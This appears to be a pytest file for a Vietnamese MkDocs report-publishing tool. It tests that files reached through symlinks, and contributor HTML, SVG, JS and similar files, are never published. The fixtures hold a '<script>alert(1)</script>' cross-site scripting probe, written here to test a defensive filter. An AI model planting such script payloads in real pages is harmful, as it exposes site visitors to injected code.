def test_adapter_never_publishes_through_a_linked_folder(repo, monkeypatch):
    # A quarter folder that is a link to another, and docs/ itself a link: every file
    # reached through a link is dropped, whatever the check says.
    monkeypatch.chdir(repo)
    (repo / "docs/reports/2025-q4").symlink_to(repo / Q)
    published = _published(repo)
    assert "reports/2025-q3/khac.md" in published
    assert not any(uri.startswith("reports/2025-q4/") for uri in published), published
    (repo / "docs/reports/2025-q4").unlink()
    (repo / "docs").rename(repo / "that-docs")
    (repo / "docs").symlink_to(repo / "that-docs")
    assert _published(repo) == set()


NEVER_PUBLISHED = ("reports/2025-q3/x.html", "reports/2025-q3/anh/X.HTM", "reports/2025-q3/anh/a.svg",
                   "reports/2025-q3/anh/b.js", "reports/2025-q3/anh/c.xml", "reports/2025-q3/anh/d.xhtml",
                   "reports/2025-q3/anh/e.md", "reports/2025-q3/anh/f.SVG", "reports/2025-q3/anh/khong-duoi")


def test_maintainer_patterns_never_admit_pages_or_scripts(repo, monkeypatch):
    """Issue 24.10: ``extra.baocao_allowed`` admits pictures and documents only, whatever its
    patterns say: a loose pattern (``**``) no longer publishes a contributor's page or script
    (the served site's policy trusts the site's own scripts)."""
    from baocao.load import layout

    for rel in (*NEVER_PUBLISHED, "reports/2025-q3/anh/so-do.PNG", "reports/2025-q3/anh/bang.xlsx"):
        (repo / "docs" / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / "docs" / rel).write_text("<script>alert(1)</script>", encoding="utf-8")
    patterns = ("**", "*", "reports/*/*.html", "reports/*/anh/*")
    config = repo / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "\nextra:\n", f"\nextra:\n  baocao_allowed: {list(patterns)}\n", 1), encoding="utf-8")
    checked = run_cli(repo, "check")
    assert checked.returncode == 1
    for rel in NEVER_PUBLISHED:
        assert f"docs/{rel}:1: Loại tệp này không bao giờ được đăng" in checked.stdout, rel
    assert "so-do.PNG" not in checked.stdout and "bang.xlsx" not in checked.stdout
    # and MkDocs is never handed them, whatever happens to the check (the adapter's filter)
    assert not any(layout.accepted(rel, patterns) for rel in NEVER_PUBLISHED)
    monkeypatch.chdir(repo)
    published = _published(repo)
    assert {"reports/2025-q3/anh/so-do.PNG", "reports/2025-q3/anh/bang.xlsx"} <= published
    assert not published & set(NEVER_PUBLISHED)
